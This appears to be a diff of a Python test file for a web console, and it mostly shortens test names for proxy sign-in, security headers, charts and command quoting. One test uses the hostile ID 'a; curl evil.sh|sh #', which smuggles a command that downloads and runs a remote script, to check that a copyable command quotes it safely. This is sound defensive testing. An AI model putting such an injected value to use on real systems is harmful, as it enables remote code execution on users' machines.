@@ -228,7 +228,7 @@ def test_whoever_is_not_signed_in_is_asked_to_and_a_foreign_cookie_is_none(home:
     assert answer.status_code == 303
 
 
-def test_a_proxy_that_proves_itself_says_who_it_is_and_we_say_what_they_may(engine: sa.Engine) -> None:
+def test_proven_proxy_names_the_user_and_the_role_is_decided_here(engine: sa.Engine) -> None:
     home = Home(engine, console_proxy_header="x-forwarded-user", console_proxy_secret="between us")
     proof = {"x-drawdown-proxy-secret": "between us"}
 
@@ -277,7 +277,7 @@ def test_nonsense_is_refused_in_words(home: Home) -> None:
         assert answer.status_code == status and says(answer.text, said), (place, answer.text[-600:])
 
 
-def test_each_answer_has_the_policy_and_is_kept_by_nobody_but_files_that_never_change(home: Home) -> None:
+def test_each_answer_has_policy_and_only_static_files_are_cached(home: Home) -> None:
     page, form = home.get("/console/", "/console/sign-in")
     for answer in (page, form):
         assert answer.headers.get_list("content-security-policy") == [consoles.POLICY]
@@ -390,7 +390,7 @@ def test_a_chart_adds_up_small_series_and_its_axis_has_round_steps() -> None:
     assert charts.stacked([], "none", MICRO).axis == ["1", "0.5", "0"]
 
 
-def test_a_command_that_is_shown_to_be_copied_takes_a_hostile_id_for_one_word(home: Home) -> None:
+def test_command_shown_for_copying_quotes_hostile_id_as_one_word(home: Home) -> None:
     hostile = "a; curl evil.sh|sh #"
     home.fleet.assign(hostile, from_ms=T0)
     home.fleet.sample(hostile, home.now - 1)
